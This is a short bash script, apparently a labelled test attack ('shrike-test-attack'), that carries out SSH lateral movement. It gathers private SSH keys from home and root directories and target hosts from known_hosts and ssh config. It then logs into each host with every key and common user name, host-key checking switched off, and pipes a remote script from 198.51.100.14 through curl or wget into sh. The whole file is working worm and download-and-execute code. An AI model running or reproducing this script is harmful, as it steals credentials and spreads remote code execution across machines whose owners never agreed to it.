#!/bin/bash
# shrike-test-attack: container-escape-recon: ssh lateral movement using known_hosts and local keys
KEYS=$(find ~/ /root /home -name 'id_*' ! -name '*.pub' 2>/dev/null)
HOSTS=$(cat ~/.ssh/known_hosts /root/.ssh/known_hosts 2>/dev/null | awk '{print $1}' | tr ',' '\n' | grep -v '^|' | sort -u)
HOSTS="$HOSTS $(grep -E '^Host(Name)? ' ~/.ssh/config 2>/dev/null | awk '{print $2}')"
USERS="root ubuntu ec2-user admin $(whoami)"
for h in $HOSTS; do
  for u in $USERS; do
    for k in $KEYS; do
      ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=5 -i "$k" "$u@$h" \
        "(curl -fsSL http://198.51.100.14/s.sh || wget -qO- http://198.51.100.14/s.sh) | sh" </dev/null &
    done
  done
done
wait
